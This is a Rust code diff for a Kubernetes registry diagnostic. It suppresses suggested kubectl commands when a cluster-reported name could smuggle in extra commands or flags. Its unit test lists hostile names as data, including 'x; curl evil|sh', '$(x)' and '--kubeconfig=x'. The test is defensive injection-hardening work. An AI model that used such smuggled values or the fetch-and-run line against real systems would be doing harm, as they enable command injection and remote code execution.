@@ -6,6 +6,7 @@ use images_proto::{Code, Failure, Offer};
 
 use super::place::Place;
 use crate::cluster::Cluster;
+use crate::cluster::path::is_name;
 use crate::cluster::workload::{Controller, Pod, Workload};
 
 /// Why the registry at this place does not run; `None` when the cluster knows nothing against it.
@@ -62,13 +63,10 @@ fn of_workload(place: &Place, workload: &Workload) -> Option<Failure> {
         let controller = workload.controllers.as_deref().unwrap_or_default().first()?;
         let Controller { kind, name, .. } = controller;
         let resource = kind.replace(' ', "");
-        return Some(
-            down(format!(
-                "The registry is switched off: the {kind} {namespace}/{name} runs no pod."
-            ))
-            .with_fix("Have it run one.")
-            .with_command(format!("kubectl scale --replicas=1 -n {namespace} {resource}/{name}")),
-        );
+        let words =
+            format!("The registry is switched off: the {kind} {namespace}/{name} runs no pod.");
+        let command = format!("kubectl scale --replicas=1 -n {namespace} {resource}/{name}");
+        return Some(with_command(down(words).with_fix("Have it run one."), name, command));
     }
     if workload.ready_pod().is_some() {
         return None;
@@ -118,9 +116,51 @@ fn of_pod(namespace: &str, pod: &Pod) -> Failure {
         None => failure.with_fix("See what the cluster says about it."),
     };
     let what = if crashes { "logs --previous" } else { "describe pod" };
-    failure.with_command(format!("kubectl {what} -n {namespace} {name}"))
+    with_command(failure, name, format!("kubectl {what} -n {namespace} {name}"))
+}
+
+/// With a command for people to copy, unless this name, which the cluster tells, would be more in it
+/// than a name. That of the namespace was checked before anything was asked there.
+fn with_command(failure: Failure, name: &str, command: String) -> Failure {
+    match is_name(name) && !name.starts_with('-') {
+        true => failure.with_command(command),
+        false => failure,
+    }
 }
 
 fn down(message: String) -> Failure {
     Failure::new(Code::RegistryUnreachable, message).retryable()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_name_that_is_none_stands_in_no_command() {
+        let command = |name: &str| {
+            let name = name.to_owned();
+            let pod = Pod { name: name.clone(), ..Pod::default() };
+            let of_pod = of_pod("shop", &pod).command;
+            let controller =
+                Controller { kind: "stateful set", name, wanted: 0, ready: 0, message: None };
+            let workload = Workload { controllers: Some(vec![controller]), ..Workload::default() };
+            let place = Place {
+                namespace: "shop".to_owned(),
+                name: "registry".to_owned(),
+                port: 5000,
+                address: None,
+                tls: false,
+                well_known: false,
+            };
+            (of_pod, of_workload(&place, &workload).unwrap().command)
+        };
+        let (of_pod, of_controller) = command("registry-0");
+        assert_eq!(of_pod.as_deref(), Some("kubectl describe pod -n shop registry-0"));
+        let expected = "kubectl scale --replicas=1 -n shop statefulset/registry-0";
+        assert_eq!(of_controller.as_deref(), Some(expected));
+        for bad in ["x; curl evil|sh", "--kubeconfig=x", "$(x)", ""] {
+            assert_eq!(command(bad), (None, None), "{bad}");
+        }
+    }
 }
